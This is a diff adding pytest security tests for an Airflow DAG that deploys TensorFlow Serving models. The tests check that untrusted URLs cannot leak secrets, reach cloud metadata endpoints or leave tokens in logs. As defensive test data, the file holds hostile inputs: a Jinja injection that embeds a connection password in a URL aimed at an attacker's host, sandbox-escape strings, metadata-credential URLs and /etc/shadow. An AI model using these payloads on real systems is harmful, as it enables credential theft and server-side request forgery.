@@ -1,0 +1,280 @@
+"""What a trigger form, a run's conf or an Asset event can set is untrusted: it never reads a
+secret, never sends the worker where the URL policy forbids, never leaves a token on disk, in
+XCom, in rendered fields or in logs.
+
+The exploit is the one a review reproduced: ``model_url = http://<their host>/{{ conn.<id>.password }}/m.tar.gz``
+used to be rendered a second time with the full task context.
+"""
+
+from __future__ import annotations
+
+import datetime
+import json
+import ssl
+import subprocess
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import pytest
+from conftest import all_succeeded
+from test_dag_kubernetes_e2e import return_value
+
+from tfserving_deploy.errors import UnsafeModelUrl
+from tfserving_deploy.urls import UrlPolicy, render_model_url
+
+ROOT = Path(__file__).resolve().parents[1]
+SECRET = "hunter2-prod-db-password"
+TOKEN = "sig0123456789abcdefTOKEN"
+
+
+class Recorder(ThreadingHTTPServer):
+    """An HTTP server on 127.0.0.1 that records every request line and serves ``files``."""
+
+    def __init__(self):
+        self.requests: list[str] = []
+        self.files: dict[str, bytes] = {}
+        self.redirects: dict[str, str] = {}
+        recorder = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def _answer(self, body: bool):
+                recorder.requests.append(f"{self.command} {self.path}")
+                path = self.path.split("?")[0]
+                if path in recorder.redirects:
+                    self.send_response(302)
+                    self.send_header("Location", recorder.redirects[path])
+                    self.end_headers()
+                    return
+                data = recorder.files.get(path)
+                self.send_response(200 if data is not None else 404)
+                self.send_header("Content-Length", str(len(data or b"")))
+                self.end_headers()
+                if body and data:
+                    self.wfile.write(data)
+
+            def do_GET(self):
+                self._answer(True)
+
+            def do_HEAD(self):
+                self._answer(False)
+
+            def log_message(self, *args):
+                pass
+
+        super().__init__(("127.0.0.1", 0), Handler)
+        self.base = f"http://127.0.0.1:{self.server_address[1]}"
+        threading.Thread(target=self.serve_forever, daemon=True).start()
+
+    def close(self):
+        self.shutdown()
+        self.server_close()
+
+
+@pytest.fixture
+def recorder():
+    server = Recorder()
+    yield server
+    server.close()
+
+
+@pytest.fixture
+def dag(airflow_db, tmp_path, monkeypatch):
+    from airflow.dag_processing.dagbag import DagBag
+
+    monkeypatch.setenv("TFSERVING_DEPLOY_CACHE", str(tmp_path / "cache"))
+    monkeypatch.setenv("AIRFLOW_CONN_PROD_DB", json.dumps({"conn_type": "postgres", "password": SECRET}))
+    monkeypatch.setenv("AIRFLOW_VAR_API_KEY", SECRET)
+    return DagBag(dag_folder=str(ROOT / "dags")).get_dag("tfserving_resnet")
+
+
+def run_states(run) -> dict[str, tuple[str, int]]:
+    from airflow.utils.session import create_session
+
+    with create_session() as session:
+        return {ti.task_id: (str(ti.state), ti.try_number) for ti in run.get_task_instances(session=session)}
+
+
+# -- templates ---------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "template",
+    ["{{ conn.prod_db.password }}", "{{ var.value.api_key }}", "{{ macros.datetime.now() }}", "{{ params.model_url }}"],
+    ids=["conn", "var", "macros", "params"],
+)
+def test_the_exploit_fails_the_run_at_once_and_the_secret_goes_nowhere(dag, recorder, capfd, template):
+    conf = {
+        "model_url": f"{recorder.base}/{template}/m.tar.gz",
+        "target": "local",
+        "force": False,
+        "model_sha256": None,
+        "expected_class": None,
+    }
+    run = dag.test(run_conf=conf)
+    states = run_states(run)
+    assert states["check_for_change"] == ("failed", 1), states  # no retry: a retry cannot fix it
+    assert str(run.state).endswith("failed")
+    assert recorder.requests == []  # the worker was sent nowhere
+    output = capfd.readouterr()
+    assert SECRET not in output.out + output.err
+    assert "a model URL may use only the run's dates" in output.out + output.err
+
+
+def test_dated_urls_use_the_runs_dates_only():
+    when = datetime.datetime(2026, 1, 2, 3, 4, 5, tzinfo=datetime.UTC)
+    assert render_model_url("https://m.example.com/{{ ds_nodash }}/{{ ds }}/r.tgz", when) == (
+        "https://m.example.com/20260102/2026-01-02/r.tgz"
+    )
+    assert render_model_url("https://m.example.com/{{ logical_date.strftime('%Y/%m') }}/r.tgz", when) == (
+        "https://m.example.com/2026/01/r.tgz"
+    )
+    for bad in ("{{ ''.__class__.__mro__ }}", "{{ ds.__class__ }}"):
+        with pytest.raises(Exception):  # the sandbox refuses attribute games
+            render_model_url(f"https://m.example.com/{bad}", when)
+    with pytest.raises(UnsafeModelUrl, match="not valid Jinja"):
+        render_model_url("https://m.example.com/{{ ds ", when)
+
+
+# -- the URL policy ----------------------------------------------------------------------------------
+
+
+def test_default_policy_is_https_only(tmp_path):
+    policy = UrlPolicy()
+    policy.check("https://models.example.com/resnet.tar.gz")
+    for url, why in (
+        ("http://models.example.com/resnet.tar.gz", "http scheme is not allowed here"),
+        (f"file://{tmp_path}/m.tar.gz", "file scheme is not allowed here"),
+        (str(tmp_path / "m.tar.gz"), "file scheme is not allowed here"),
+    ):
+        with pytest.raises(UnsafeModelUrl, match=why):
+            policy.check(url)
+
+
+def test_file_urls_only_inside_configured_directories(tmp_path):
+    allowed = tmp_path / "models"
+    allowed.mkdir()
+    (allowed / "escape").symlink_to(tmp_path)
+    policy = UrlPolicy.from_environment(
+        {"TFSERVING_DEPLOY_URL_SCHEMES": "https,file", "TFSERVING_DEPLOY_FILE_DIRS": str(allowed)}
+    )
+    policy.check(f"file://{allowed}/m.tar.gz")
+    for url in (f"file://{tmp_path}/secret.tar.gz", f"file://{allowed}/escape/secret.tar.gz", "/etc/shadow"):
+        with pytest.raises(UnsafeModelUrl, match="outside the directories file:// URLs may read"):
+            policy.check(url)
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
+        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
+        "http://[fd00:ec2::254]/latest/meta-data/",
+        "http://[fe80::1]/m.tar.gz",
+    ],
+)
+def test_metadata_and_link_local_addresses_are_refused(url):
+    with pytest.raises(UnsafeModelUrl, match="metadata"):
+        UrlPolicy(frozenset({"https", "http"})).check(url)
+
+
+def test_every_redirect_is_checked(recorder, tmp_path):
+    from tfserving_deploy.artifact import fetch_model
+
+    recorder.redirects["/m.tar.gz"] = "http://169.254.169.254/latest/meta-data/"
+    policy = UrlPolicy(frozenset({"https", "http"}))
+    with pytest.raises(UnsafeModelUrl, match=r"169\.254\.169\.254 .*link-local or metadata address; refused"):
+        fetch_model(f"{recorder.base}/m.tar.gz", cache_dir=tmp_path, policy=policy)
+    assert recorder.requests == ["GET /m.tar.gz"]  # followed by hand: never towards the metadata server
+
+
+def test_https_never_continues_over_http(recorder, tmp_path):
+    """A local https server (self-signed, trusted for this test) redirects to plain http."""
+    from tfserving_deploy.artifact import fetch_model
+
+    key, cert = tmp_path / "key.pem", tmp_path / "cert.pem"
+    subprocess.run(
+        [
+            "openssl",
+            "req",
+            "-x509",
+            "-newkey",
+            "ec",
+            "-pkeyopt",
+            "ec_paramgen_curve:prime256v1",
+            "-nodes",
+            "-keyout",
+            str(key),
+            "-out",
+            str(cert),
+            "-days",
+            "1",
+            "-subj",
+            "/CN=127.0.0.1",
+            "-addext",
+            "subjectAltName=IP:127.0.0.1",
+        ],
+        check=True,
+        capture_output=True,
+    )
+    secure = Recorder()
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    context.load_cert_chain(cert, key)
+    secure.socket = context.wrap_socket(secure.socket, server_side=True)
+    secure.redirects["/m.tar.gz"] = f"{recorder.base}/m.tar.gz"
+    https = secure.base.replace("http://", "https://")
+    try:
+        with pytest.MonkeyPatch.context() as mp:
+            mp.setenv("REQUESTS_CA_BUNDLE", str(cert))
+            with pytest.raises(UnsafeModelUrl, match="an https download never continues over plain http"):
+                fetch_model(
+                    f"{https}/m.tar.gz", cache_dir=tmp_path / "cache", policy=UrlPolicy(frozenset({"https", "http"}))
+                )
+    finally:
+        secure.close()
+    assert secure.requests == ["GET /m.tar.gz"] and recorder.requests == []
+
+
+# -- signed-URL tokens ---------------------------------------------------------------------------------
+
+
+def test_signed_url_tokens_stay_out_of_disk_xcom_rendered_fields_and_logs(
+    dag, recorder, capfd, tmp_path, demo_model_url
+):
+    from airflow.models.renderedtifields import RenderedTaskInstanceFields
+    from airflow.utils.session import create_session
+
+    recorder.files["/resnet.tar.gz"] = _demo_bytes(demo_model_url)
+    signed = f"{recorder.base}/resnet.tar.gz?X-Goog-Algorithm=GOOG4&X-Goog-Signature={TOKEN}&X-Goog-Expires=600"
+    run = dag.test(
+        run_conf={
+            "model_url": signed,
+            "target": "local",
+            "replicas": 1,
+            "force": True,
+            "model_sha256": None,
+            "expected_class": 286,
+            "image_repository": "127.0.0.1:5000/tfserving-deploy-untrusted",
+            "serving_base_image": "127.0.0.1:5000/tfserving-deploy/serving:2.21.0",
+        }
+    )
+    states = run_states(run)
+    assert all_succeeded({task: state for task, (state, _) in states.items()}), states
+    assert any(TOKEN in r for r in recorder.requests)  # the server did get its signed URL
+    output = capfd.readouterr()
+    assert TOKEN not in output.out + output.err
+    cache = tmp_path / "cache"
+    for path in cache.rglob("*.json"):
+        assert TOKEN not in path.read_text(errors="replace"), path
+    with create_session() as session:
+        ti = next(t for t in run.get_task_instances(session=session) if t.task_id == "fetch_model")
+        rendered = RenderedTaskInstanceFields.get_templated_fields(ti, session=session)
+    assert TOKEN not in json.dumps(rendered) and "***" in rendered["model_url"], rendered
+    assert TOKEN not in json.dumps(return_value(dag, run, "fetch_model"))
+
+
+def _demo_bytes(demo_model_url: str) -> bytes:
+    import urllib.request
+
+    with urllib.request.urlopen(demo_model_url, timeout=30) as response:
+        return response.read()
